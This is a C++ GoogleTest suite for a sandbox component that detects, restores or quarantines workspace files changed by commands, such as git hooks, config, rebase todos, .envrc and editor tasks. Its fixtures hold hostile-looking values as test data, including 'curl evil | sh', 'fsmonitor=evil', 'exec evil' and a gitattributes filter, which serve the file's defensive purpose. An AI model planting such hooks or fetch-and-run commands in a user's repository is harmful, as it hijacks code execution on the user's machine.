#include "lathe/sandbox/name_guard.h"

#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "lathe/base/unique_fd.h"
#include "lathe/sandbox/folders.h"

namespace lathe::sandbox {
namespace {

namespace fs = std::filesystem;
using Finding = NameGuard::Finding;
using Kind = Finding::Kind;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

class NameGuards : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string pattern = (fs::temp_directory_path() / "lathe-guard-XXXXXX").string();
    ASSERT_NE(mkdtemp(pattern.data()), nullptr);
    outside_ = pattern;
    root_ = outside_ + "/w";
    fs::create_directories(root_ + "/.git/hooks");
    put(".git/config", "[core]\n");
    put(".git/hooks/commit", "ours\n");
  }
  void TearDown() override { fs::remove_all(outside_); }

  void put(const std::string& path, const std::string& text) const {
    fs::create_directories(fs::path(root_ + "/" + path).parent_path());
    std::ofstream(root_ + "/" + path) << text;
  }
  [[nodiscard]] std::string get(const std::string& path) const {
    std::ostringstream text;
    text << std::ifstream(root_ + "/" + path).rdbuf();
    return text.str();
  }
  std::vector<Finding> check(NameGuard& guard) {
    auto found = guard.check([this](std::string_view bytes) -> base::Result<std::string> {
      kept_.emplace_back(bytes);
      return "blob" + std::to_string(kept_.size());
    });
    EXPECT_TRUE(found.ok());
    return found.ok() ? *found : std::vector<Finding>();
  }

  std::string outside_;
  std::string root_;
  std::vector<std::string> kept_;
};

TEST_F(NameGuards, WhatHoldsTooMuchToBeLookedAtIsToldAndLosesNothing) {
  for (int i = 0; i < 4'100; ++i) put(".vscode/f" + std::to_string(i), "x");
  put(".zed/tasks", "ours");
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  ASSERT_TRUE(guard.remember().ok());
  put(".vscode/a-new-first-one", "x");
  put(".zed/tasks", "theirs");
  EXPECT_THAT(check(guard),
              ElementsAre(Finding{Kind::kUnchecked, ".vscode", ""}, Finding{Kind::kRestored, ".zed/tasks", ""}));
  EXPECT_EQ(get(".vscode/f99"), "x");
  EXPECT_EQ(get(".zed/tasks"), "ours");
}

TEST_F(NameGuards, NothingChangedIsNothingFound) {
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  EXPECT_THAT(check(guard), IsEmpty());
  ASSERT_TRUE(guard.remember().ok());
  put("src/a.c", "int a;\n");
  put(".git/index", "x");
  EXPECT_THAT(check(guard), IsEmpty());
}

TEST_F(NameGuards, WhatChangedHasItsPreviousBytesAndModeAgain) {
  chmod((root_ + "/.git/hooks/commit").c_str(), 0755);
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  ASSERT_TRUE(guard.remember().ok());
  put(".git/config", "[core]\nfsmonitor=evil\n");
  fs::remove_all(root_ + "/.git/hooks");
  EXPECT_THAT(check(guard),
              ElementsAre(Finding{Kind::kRestored, ".git/config", ""}, Finding{Kind::kRestored, ".git/hooks", ""},
                          Finding{Kind::kRestored, ".git/hooks/commit", ""}));
  EXPECT_EQ(get(".git/config"), "[core]\n");
  EXPECT_EQ(get(".git/hooks/commit"), "ours\n");
  struct stat status{};
  ASSERT_EQ(stat((root_ + "/.git/hooks/commit").c_str(), &status), 0);
  EXPECT_EQ(status.st_mode & 0777U, 0755U);
  ASSERT_TRUE(guard.remember().ok());
  EXPECT_THAT(check(guard), IsEmpty());
}

TEST_F(NameGuards, WhatIsNewIsPutAside) {
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    kept_.clear();
    NameGuard guard(root_, scope);
    ASSERT_TRUE(guard.remember().ok());
    put(".vscode/tasks.json", "run me\n");
    put(".vscode/deep/more", "too\n");
    put(".envrc", "curl evil | sh\n");
    EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, ".envrc", "blob1"},
                                          Finding{Kind::kQuarantined, ".vscode", "blob2"}));
    EXPECT_FALSE(fs::exists(root_ + "/.vscode"));
    EXPECT_FALSE(fs::exists(root_ + "/.envrc"));
    EXPECT_THAT(kept_[1], HasSubstr("run me\n"));
    EXPECT_THAT(kept_[1], HasSubstr("too\n"));
  }
}

TEST_F(NameGuards, RebaseThatACommandBeginsContinuesAndEndsIsGits) {
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    NameGuard guard(root_, scope);
    ASSERT_TRUE(guard.remember().ok());
    put(".git/rebase-merge/git-rebase-todo", "pick 1 one\npick 2 two\n");
    put(".git/rebase-merge/author-script", "GIT_AUTHOR_NAME='t'\n");
    EXPECT_THAT(check(guard), IsEmpty());
    guard.forget();
    ASSERT_TRUE(guard.remember().ok());
    put(".git/rebase-merge/git-rebase-todo", "pick 2 two\n");
    EXPECT_THAT(check(guard), IsEmpty());
    EXPECT_EQ(get(".git/rebase-merge/git-rebase-todo"), "pick 2 two\n");
    fs::remove_all(root_ + "/.git/rebase-merge");
    EXPECT_THAT(check(guard), IsEmpty());
  }
}

TEST_F(NameGuards, RebaseWithOrdersOfACommandIsPutAside) {
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    kept_.clear();
    NameGuard guard(root_, scope);
    ASSERT_TRUE(guard.remember().ok());
    put(".git/rebase-merge/git-rebase-todo", "pick 1 one\nexec evil\n");
    put(".git/sequencer/opts", "[options]\n\tstrategy = ../evil\n");
    fs::create_directories(root_ + "/made");
    fs::create_symlink("../made", root_ + "/.git/rebase-apply");
    EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, ".git/rebase-apply", "blob1"},
                                          Finding{Kind::kQuarantined, ".git/rebase-merge", "blob2"},
                                          Finding{Kind::kQuarantined, ".git/sequencer", "blob3"}));
    for (const char* name : {"rebase-apply", "rebase-merge", "sequencer"}) {
      EXPECT_FALSE(fs::exists(fs::symlink_status(root_ + "/.git/" + name))) << name;
    }
    EXPECT_THAT(kept_[1], HasSubstr("exec evil"));
  }
}

TEST_F(NameGuards, OrdersAreNotAddedToThePersonsRebase) {
  const std::string todo = ".git/rebase-merge/git-rebase-todo";
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    kept_.clear();
    put(todo, "pick 1 one\nexec make\npick 2 two\nexec make\n");
    NameGuard guard(root_, scope);
    ASSERT_TRUE(guard.remember().ok());
    put(todo, "pick 2 two\nexec make\n");
    EXPECT_THAT(check(guard), IsEmpty()) << "one step is done";
    put(todo, "exec evil\n");
    EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kRestored, todo, ""}));
    EXPECT_EQ(get(todo), "pick 1 one\nexec make\npick 2 two\nexec make\n");
    put(".git/rebase-merge/strategy", "../evil\n");
    EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, ".git/rebase-merge/strategy", "blob1"}));
    // Swapped for a link as a whole.
    fs::rename(root_ + "/.git/rebase-merge", root_ + "/moved");
    fs::create_symlink("../moved", root_ + "/.git/rebase-merge");
    EXPECT_THAT(check(guard),
                ElementsAre(Finding{Kind::kRestored, ".git/rebase-merge", ""}, Finding{Kind::kRestored, todo, ""}));
    EXPECT_FALSE(fs::is_symlink(root_ + "/.git/rebase-merge"));
    EXPECT_THAT(get(todo), HasSubstr("exec make"));
    fs::remove_all(root_ + "/moved");
  }
}

TEST_F(NameGuards, NewHookInAnOldFolderIsPutAside) {
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  ASSERT_TRUE(guard.remember().ok());
  put(".git/hooks/pre-push", "evil\n");
  EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, ".git/hooks/pre-push", "blob1"}));
  EXPECT_TRUE(fs::exists(root_ + "/.git/hooks/commit"));
}

TEST_F(NameGuards, LinkThatTakesThePlaceOfAFolderLeadsNowhere) {
  const std::string other = outside_ + "/other";
  fs::create_directories(other + "/hooks");
  std::ofstream(other + "/hooks/theirs") << "keep\n";
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  ASSERT_TRUE(guard.remember().ok());
  fs::rename(root_ + "/.git", root_ + "/moved");
  fs::create_symlink(other, root_ + "/.git");
  const auto found = check(guard);
  EXPECT_THAT(found, ::testing::Contains(Finding{Kind::kQuarantined, ".git", "blob1"}));
  EXPECT_FALSE(fs::is_symlink(root_ + "/.git"));
  EXPECT_TRUE(fs::exists(other + "/hooks/theirs"));
}

TEST_F(NameGuards, FolderThatTakesThePlaceOfAPersonsLinkGivesWayToIt) {
  put("conf/tasks.json", "ours\n");
  fs::create_symlink("conf", root_ + "/.vscode");
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    NameGuard guard(root_, scope);
    ASSERT_TRUE(guard.remember().ok());
    fs::remove(root_ + "/.vscode");
    put(".vscode/tasks.json", "theirs\n");
    EXPECT_THAT(check(guard), ::testing::Contains(Finding{Kind::kRestored, ".vscode", ""}));
    EXPECT_EQ(fs::read_symlink(root_ + "/.vscode"), "conf");
    EXPECT_EQ(get(".vscode/tasks.json"), "ours\n");
  }
}

TEST_F(NameGuards, WhatAPersonsLinkLeadsToIsWatchedAsItsName) {
  put("hooks/commit", "ours\n");
  fs::remove_all(root_ + "/.git/hooks");
  fs::create_symlink("../hooks", root_ + "/.git/hooks");
  NameGuard guard(fs::canonical(root_).string(), NameGuard::Scope::kAllNames);
  ASSERT_TRUE(guard.remember().ok());
  put("hooks/commit", "theirs\n");
  put("hooks/push", "theirs\n");
  put("src/a.c", "int a;\n");
  // A link that a command makes protects nothing: what it leads to is the workspace's.
  fs::create_symlink("src", root_ + "/.zed");
  EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, ".zed", "blob1"},
                                        Finding{Kind::kQuarantined, "hooks/push", "blob2"},
                                        Finding{Kind::kRestored, "hooks/commit", ""}));
  EXPECT_EQ(get("hooks/commit"), "ours\n");
  EXPECT_EQ(get("src/a.c"), "int a;\n");
}

TEST_F(NameGuards, NewVirtualEnvironmentStaysAndIsReported) {
  NameGuard guard(root_, NameGuard::Scope::kNewNames);
  ASSERT_TRUE(guard.remember().ok());
  put(".venv/pyvenv.cfg", "home = /usr\n");
  EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kTainted, ".venv", ""}));
  EXPECT_TRUE(fs::exists(root_ + "/.venv/pyvenv.cfg"));
}

/// Root is refused nothing, so that missing rights only show to an ordinary user.
class OrdinaryUser final {
 public:
  explicit OrdinaryUser(const std::string& folder) {
    if (geteuid() != 0) return;
    for (const auto& entry : fs::recursive_directory_iterator(folder)) {
      (void)!lchown(entry.path().c_str(), kNobody, kNobody);
    }
    (void)!chown(folder.c_str(), kNobody, kNobody);
    became_ = seteuid(kNobody) == 0;
  }
  ~OrdinaryUser() {
    if (became_) (void)!seteuid(0);
  }
  OrdinaryUser(const OrdinaryUser&) = delete;
  OrdinaryUser& operator=(const OrdinaryUser&) = delete;

 private:
  static constexpr uid_t kNobody = 65534;
  bool became_ = false;
};

TEST_F(NameGuards, FolderWithoutRightsHidesNothing) {
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    for (const mode_t mode : {0300U, 0U}) {
      fs::create_directories(root_ + "/.git/info");
      const OrdinaryUser user(outside_);
      NameGuard guard(root_, scope);
      ASSERT_TRUE(guard.remember().ok());
      put(".git/info/attributes", "* filter=evil\n");
      chmod((root_ + "/.git/info").c_str(), mode);
      const std::vector<Finding> found = check(guard);
      EXPECT_TRUE(std::ranges::any_of(found, [](const Finding& finding) {
        return finding.kind == Kind::kQuarantined && finding.path == ".git/info/attributes";
      }));
      EXPECT_FALSE(fs::exists(root_ + "/.git/info/attributes"));
    }
  }
}

TEST_F(NameGuards, WhatIsPutAsideMayHaveFoldersWithoutRights) {
  const OrdinaryUser user(outside_);
  NameGuard guard(root_, NameGuard::Scope::kNewNames);
  ASSERT_TRUE(guard.remember().ok());
  put(".vscode/deep/tasks.json", "run me\n");
  chmod((root_ + "/.vscode/deep").c_str(), 0);
  chmod((root_ + "/.vscode").c_str(), 0);
  EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, ".vscode", "blob1"}));
  EXPECT_FALSE(fs::exists(root_ + "/.vscode"));
  EXPECT_THAT(kept_[0], HasSubstr("run me\n"));
}

TEST_F(NameGuards, TreeIsRemovedAlsoWhereRightsWereTaken) {
  const OrdinaryUser user(outside_);
  put("made/deep/file", "x");
  fs::create_directories(root_ + "/made/hidden");
  for (const char* path : {"/made/hidden", "/made/deep", "/made"}) chmod((root_ + path).c_str(), 0);
  EXPECT_EQ(remove_tree(root_ + "/made"), 0);
  EXPECT_FALSE(fs::exists(root_ + "/made"));
  EXPECT_EQ(remove_tree(root_ + "/made"), 0);
}

TEST_F(NameGuards, TreeIsRemovedHoweverDeepItIs) {
  base::UniqueFd folder(open(root_.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  for (int level = 0; level < 2'000; ++level) {
    ASSERT_EQ(mkdirat(folder.get(), "deep", 0700), 0);
    folder = base::UniqueFd(openat(folder.get(), "deep", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    if (level % 100 == 0) {
      for (const char* name : {"after", "file"}) {
        ASSERT_TRUE(base::UniqueFd(openat(folder.get(), name, O_CREAT | O_WRONLY | O_CLOEXEC, 0600)));
      }
    }
  }
  EXPECT_EQ(remove_tree(root_ + "/deep"), 0);
  EXPECT_FALSE(fs::exists(root_ + "/deep"));
}

TEST_F(NameGuards, WhatCouldNotBePutAsideIsTriedAgain) {
  const OrdinaryUser user(outside_);
  NameGuard guard(root_, NameGuard::Scope::kNewNames);
  ASSERT_TRUE(guard.remember().ok());
  put(".envrc", "evil\n");
  chmod(root_.c_str(), 0500);
  if (geteuid() == 0) GTEST_SKIP() << "nothing is refused to root";
  const auto found = check(guard);
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].kind, Kind::kFailed);
  ASSERT_TRUE(guard.remember().ok());
  chmod(root_.c_str(), 0700);
  EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, ".envrc", "blob2"}));
}

TEST_F(NameGuards, WhatComesBetweenCheckAndNextCommandIsNotThePersons) {
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    put(".git/config", "[core]\n");
    NameGuard guard(root_, scope);
    ASSERT_TRUE(guard.remember().ok());
    put(".git/config", "theirs\n");
    const bool all = scope == NameGuard::Scope::kAllNames;
    EXPECT_EQ(check(guard).size(), all ? 1U : 0U);
    // A job in the background writes on while the next command is made ready.
    put(".envrc", "theirs\n");
    put(".git/config", "again\n");
    ASSERT_TRUE(guard.remember().ok());
    EXPECT_EQ(check(guard).size(), all ? 2U : 1U);
    EXPECT_FALSE(fs::exists(root_ + "/.envrc"));
    EXPECT_EQ(get(".git/config"), all ? "[core]\n" : "again\n");
    EXPECT_THAT(check(guard), IsEmpty());
  }
}

TEST_F(NameGuards, OnceForgottenChangesAreThePersons) {
  NameGuard guard(root_, NameGuard::Scope::kNewNames);
  ASSERT_TRUE(guard.remember().ok());
  guard.forget();
  put(".envrc", "mine\n");
  EXPECT_THAT(check(guard), IsEmpty());
  EXPECT_TRUE(fs::exists(root_ + "/.envrc"));
}

TEST_F(NameGuards, AdministrativeFolderOfAWorktreeIsWatchedToo) {
  const std::string own = root_ + "/.git/worktrees/one";
  put(".git/worktrees/one/commondir", "../..\n");
  put(".git/worktrees/one/gitdir", "/one/.git\n");
  fs::create_directories(root_ + "/.git/objects/info");
  NameGuard guard(own, NameGuard::Scope::kNewNames);
  NameGuard objects(root_ + "/.git/objects", NameGuard::Scope::kNewNames);
  ASSERT_TRUE(guard.remember().ok());
  ASSERT_TRUE(objects.remember().ok());
  put(".git/worktrees/one/rebase-merge/git-rebase-todo", "exec evil\n");
  put(".git/worktrees/one/config.worktree", "[core]\nfsmonitor=evil\n");
  put(".git/objects/info/alternates", "/elsewhere\n");
  EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, "config.worktree", "blob1"},
                                        Finding{Kind::kQuarantined, "rebase-merge", "blob2"}));
  EXPECT_THAT(check(objects), ElementsAre(Finding{Kind::kQuarantined, "info/alternates", "blob3"}));
}

TEST_F(NameGuards, RepositoryBesideItsFileIsWatchedLikeAFolderOfGits) {
  fs::remove_all(root_ + "/.git");
  put(".git", "gitdir: store\n");
  put("store/config", "[core]\n");
  put("store/hooks/commit", "ours\n");
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    kept_.clear();
    const bool all = scope == NameGuard::Scope::kAllNames;
    NameGuard guard(root_, scope);
    ASSERT_TRUE(guard.remember().ok());
    put("store/index", "git's own\n");
    put("store/commondir", "../evil\n");
    put("store/rebase-merge/git-rebase-todo", "exec evil\n");
    if (all) put("store/hooks/commit", "theirs\n");
    std::vector<Finding> expected{{Kind::kQuarantined, "store/commondir", "blob1"},
                                  {Kind::kQuarantined, "store/rebase-merge", "blob2"}};
    if (all) expected.push_back({Kind::kRestored, "store/hooks/commit", ""});
    EXPECT_EQ(check(guard), expected);
    EXPECT_EQ(get("store/hooks/commit"), "ours\n");
    EXPECT_TRUE(fs::exists(root_ + "/store/index"));
  }
}

TEST_F(NameGuards, WhatMakesTheWorkspaceABareRepositoryIsPutAside) {
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    kept_.clear();
    fs::remove_all(root_);
    put("hooks/mine", "the project's own\n");
    fs::create_directories(root_ + "/refs");
    NameGuard guard(root_, scope);
    ASSERT_TRUE(guard.remember().ok());
    put("HEAD", "text of a project\n");
    EXPECT_THAT(check(guard), IsEmpty()) << "not without a folder of objects";
    put("config", "[core]\nfsmonitor = evil\n");
    fs::create_directories(root_ + "/objects");
    EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, "HEAD", "blob1"}));
    EXPECT_FALSE(fs::exists(root_ + "/HEAD"));
    EXPECT_EQ(get("hooks/mine"), "the project's own\n");
    EXPECT_TRUE(fs::exists(root_ + "/refs"));
    // Part of what was there before comes again.
    guard.forget();
    put("HEAD", "ref: refs/heads/main\n");
    fs::remove_all(root_ + "/refs");
    ASSERT_TRUE(guard.remember().ok());
    put("refs/heads/main", "0\n");
    EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, "refs", "blob2"}));
    EXPECT_TRUE(fs::exists(root_ + "/HEAD"));
  }
}

TEST_F(NameGuards, BareRepositoryIsWatchedLikeAFolderOfGits) {
  fs::remove_all(root_ + "/.git");
  put("HEAD", "ref: refs/heads/main\n");
  put("config", "[core]\n");
  fs::create_directories(root_ + "/objects");
  fs::create_directories(root_ + "/refs");
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  ASSERT_TRUE(guard.remember().ok());
  put("config", "theirs\n");
  put("hooks/update", "evil\n");
  put("refs/heads/main", "git's own\n");
  EXPECT_THAT(check(guard),
              ElementsAre(Finding{Kind::kQuarantined, "hooks", "blob1"}, Finding{Kind::kRestored, "config", ""}));
  EXPECT_EQ(get("config"), "[core]\n");
  EXPECT_TRUE(fs::exists(root_ + "/refs/heads/main"));
}

}  // namespace
}  // namespace lathe::sandbox
